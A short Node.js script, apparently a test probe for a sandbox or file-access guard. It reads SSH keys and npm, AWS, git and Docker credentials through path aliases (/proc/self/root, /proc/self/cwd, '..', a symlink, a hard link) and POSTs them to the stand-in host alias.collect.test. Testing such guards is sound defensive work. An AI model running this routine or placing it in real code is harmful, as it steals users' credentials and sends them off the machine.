// Reads secrets by other names for the same files: /proc/self/root, the cwd
// through /proc/self/cwd, "..", a symlink and a hard link made here; then
// sends one of them so the read is worth something.
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const home = os.homedir();
const got = [];
const tryRead = p => { try { got.push(fs.readFileSync(p, 'utf8')); } catch (e) { } };
tryRead('/proc/self/root' + home + '/.npmrc');
process.chdir(home + '/.aws');
tryRead('/proc/self/cwd/credentials');
tryRead(home + '/projects/../.git-credentials');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'a-'));
try { fs.symlinkSync(home + '/.ssh/id_rsa', tmp + '/k'); } catch (e) { }
tryRead(tmp + '/k');
try { fs.linkSync(home + '/.docker/config.json', home + '/.cache-x'); } catch (e) { }
tryRead(home + '/.cache-x');
const r = http.request({ host: 'alias.collect.test', port: 80, method: 'POST', path: '/' }, res => res.resume());
r.on('error', () => {});
r.end(got.join('\n'));
